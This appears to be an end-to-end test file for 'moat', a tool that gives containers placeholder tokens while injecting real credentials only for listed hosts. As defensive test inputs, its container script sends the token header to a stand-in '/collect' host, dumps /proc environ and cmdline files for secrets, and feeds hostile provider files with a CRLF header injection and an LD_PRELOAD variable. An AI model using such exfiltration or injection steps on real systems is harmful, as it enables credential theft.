/**
 * User-defined providers end to end (issue 17): a provider file in <home>/providers/acme.yaml, granted with
 * `moat grant acme --token-stdin` (checked by its validate request against a fake HTTPS API with its own
 * test CA), used by a run: the API receives the real token in the declared header, the container (env,
 * files, /proc, docker inspect) holds only the placeholder, a host not listed gets no token, and a
 * response echoing the token reaches the container as the placeholder. A hostile provider file (CRLF in
 * the format, a reserved env name) is refused before anything is created.
 */
import { randomBytes } from 'node:crypto';
import { access, mkdir, writeFile } from 'node:fs/promises';
import type http from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeUpstream, type FakeUpstream } from '../fakes/upstream.js';
import { cleanupHome, moat, readMetadata, tempDir, upstreamOverrideEnv } from './helpers.js';
import { docker, exportContains, filesContaining, makeWorkspace, requestsTo, runIdOf, waitNetLog, warmImage } from './fixtures/gateway-kit.js';

const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const rand62 = (n: number): string => [...randomBytes(n)].map((b) => BASE62[b % 62]).join('');
const TOKEN = `acme_${rand62(36)}`;

const ACME = [
  'description: ACME test API',
  'hosts: [api.acme.test]',
  'inject:',
  '  header: X-Acme-Key',
  '  format: "token {token}"',
  'placeholder:',
  '  prefix: acme_',
  'env: [ACME_TOKEN]',
  'validate:',
  '  path: /v1/me',
  '  status: 200',
  'prompt: "Paste an ACME key:"',
  '',
].join('\n');

let home: string;
let root: string;
let fake: FakeUpstream;
let env: NodeJS.ProcessEnv;

beforeAll(async () => {
  home = await tempDir('providers-home');
  root = await tempDir('providers-ws');
  const me = (req: http.IncomingMessage, res: http.ServerResponse): void => {
    res.writeHead(req.headers['x-acme-key'] === `token ${TOKEN}` ? 200 : 401, { 'content-type': 'application/json' });
    res.end('{}');
  };
  // An API that echoes the credential it received, in a header and in the body.
  const echo = (req: http.IncomingMessage, res: http.ServerResponse): void => {
    const got = String(req.headers['x-acme-key'] ?? '');
    res.writeHead(200, { 'content-type': 'application/json', 'x-you-sent': got });
    res.end(JSON.stringify({ error: `invalid key ${got}` }));
  };
  fake = await startFakeUpstream({ routes: { '/v1/me': me, '/v1/echo': echo } });
  env = await upstreamOverrideEnv(root, { 'api.acme.test': fake.httpsPort, 'elsewhere.moat.test': fake.httpsPort }, [fake.ca.certPem]);
  await mkdir(join(home, 'providers'), { recursive: true });
  await writeFile(join(home, 'providers', 'acme.yaml'), ACME);
  await warmImage(home, await makeWorkspace(root, 'warm'), env);
}, 600_000);

afterAll(async () => {
  await fake?.close();
  await cleanupHome(home, root, [root]);
});

describe('a user-defined provider file', () => {
  it('moat grant acme: a wrong token is rejected by the validate request and nothing is stored; the right one is', async () => {
    const bad = await moat(['grant', 'acme', '--token-stdin'], { home, cwd: root, env, input: 'acme_wrongwrongwrongwrongwrong\n' });
    expect(bad.code).not.toBe(0);
    expect(bad.stderr).toContain('api.acme.test rejected the acme token (HTTP 401 to GET /v1/me)');
    await expect(access(join(home, 'credentials', 'acme.enc'))).rejects.toThrow();

    const r = await moat(['grant', 'acme', '--token-stdin'], { home, cwd: root, env, input: `${TOKEN}\n` });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('Granted acme');
    expect(r.stdout).toContain('api.acme.test accepted it');
    const checked = requestsTo(fake, 'api.acme.test', '/v1/me').at(-1);
    expect(checked?.headers['x-acme-key']).toBe(`token ${TOKEN}`);

    const list = await moat(['grant', 'providers', '--json'], { home, cwd: root, env });
    const providers = (JSON.parse(list.stdout) as { providers: Array<{ name: string; source: string; hosts: string[]; status: string }> }).providers;
    expect(providers.find((p) => p.name === 'acme')).toMatchObject({ source: join(home, 'providers', 'acme.yaml'), hosts: ['api.acme.test'], status: 'ok' });
    expect(providers.find((p) => p.name === 'stripe')).toMatchObject({ source: 'built-in', hosts: ['api.stripe.com', 'files.stripe.com'] });
    const grants = await moat(['grant', 'list', '--json'], { home, cwd: root, env });
    expect(grants.stdout).toContain('"name":"acme"');
    expect(grants.stdout).not.toContain(TOKEN);
  }, 60_000);

  it('a run: the real token only in the declared header to the listed host; the container holds the placeholder; an echo comes back scrubbed', async () => {
    const cwd = await makeWorkspace(root, 'run');
    const script = [
      'echo RUN=$MOAT_RUN_ID',
      'echo "PH=$ACME_TOKEN"',
      'echo "ECHO=$(curl -sS -D /tmp/h -H "X-Acme-Key: token $ACME_TOKEN" https://api.acme.test/v1/echo | base64 -w0)"',
      'echo "HDR=$(grep -i x-you-sent /tmp/h | base64 -w0)"',
      'curl -sS -o /dev/null -w "else=%{http_code}\\n" -H "X-Acme-Key: token $ACME_TOKEN" https://elsewhere.moat.test/collect',
      'echo "PROC=$(for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null; echo; done | base64 -w0)"',
    ].join('\n');
    const r = await moat(['run', '--approve-config', '--keep', '-g', 'acme', '--', 'sh', '-c', script], { home, cwd, env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('else=200');
    const id = runIdOf(r.stdout);
    const ph = /^PH=(.*)$/m.exec(r.stdout)?.[1] ?? '';
    expect(ph).toMatch(/^acme_[A-Za-z0-9]{36}$/);
    expect(ph).not.toBe(TOKEN);

    // The API got the real token in the declared header and format.
    expect(requestsTo(fake, 'api.acme.test', '/v1/echo').at(-1)?.headers['x-acme-key']).toBe(`token ${TOKEN}`);
    // ATTACK: the placeholder sent to a host not listed goes as it is; no token there.
    expect(requestsTo(fake, 'elsewhere.moat.test', '/collect').at(-1)?.headers['x-acme-key']).toBe(`token ${ph}`);
    // ATTACK: the API echoed the real token in its body and a header; the container saw the placeholder.
    const body = Buffer.from(/^ECHO=(.*)$/m.exec(r.stdout)?.[1] ?? '', 'base64').toString();
    expect(body).toBe(JSON.stringify({ error: `invalid key token ${ph}` }));
    const hdr = Buffer.from(/^HDR=(.*)$/m.exec(r.stdout)?.[1] ?? '', 'base64').toString();
    expect(hdr.trim().toLowerCase()).toBe(`x-you-sent: token ${ph}`.toLowerCase());
    const lines = await waitNetLog(home, id, 2);
    expect((lines.find((l) => l.url === 'https://api.acme.test/v1/echo') as { scrubbed?: number; grant?: string } | undefined)?.scrubbed).toBe(2);

    // Nowhere in the container: /proc, docker inspect, its filesystem; nowhere in moat's home in clear text.
    const proc = Buffer.from(/^PROC=(.*)$/m.exec(r.stdout)?.[1] ?? '', 'base64');
    expect(proc.includes(ph)).toBe(true);
    expect(proc.includes(TOKEN)).toBe(false);
    const meta = await readMetadata(home, id);
    expect(await docker(['inspect', meta.containerId as string])).not.toContain(TOKEN);
    expect((await exportContains(meta.containerId as string, [TOKEN, 'moat-init'])).found).toEqual(['moat-init']);
    expect(await filesContaining(home, [TOKEN])).toEqual([]);
  }, 120_000);
});

describe('a hostile provider file is refused before anything is created', () => {
  it.each([
    [
      'crlf',
      'hosts: [api.acme.test]\ninject:\n  header: Authorization\n  format: "Bearer {token}\\r\\nX-Injected: 1"\nenv: CRLF_TOKEN\n',
      'providers/crlf.yaml:4:11: inject.format: the format holds a control character',
    ],
    [
      'preload',
      'hosts: [api.acme.test]\ninject: {header: Authorization}\nenv: [LD_PRELOAD]\n',
      'providers/preload.yaml:3:7: env[0]: "LD_PRELOAD" is reserved by moat',
    ],
  ])(
    '%s: moat grant and moat run -g refuse it with its LINE:COL',
    async (name, text, expected) => {
      await writeFile(join(home, 'providers', `${name}.yaml`), text);
      const g = await moat(['grant', name, '--token-stdin', '--no-validate'], { home, cwd: root, env, input: `${TOKEN}\n` });
      expect(g.code).not.toBe(0);
      expect(g.stderr).toContain(expected);
      await expect(access(join(home, 'credentials', `${name}.enc`))).rejects.toThrow();
      const before = (await docker(['ps', '-aq', '--filter', `label=moat.home=${home}`])).trim();
      const r = await moat(['run', '--approve-config', '-g', name, '--', 'true'], { home, cwd: await makeWorkspace(root, `hostile-${name}`), env });
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain(expected);
      expect((await docker(['ps', '-aq', '--filter', `label=moat.home=${home}`])).trim()).toBe(before);
    },
    60_000,
  );
});
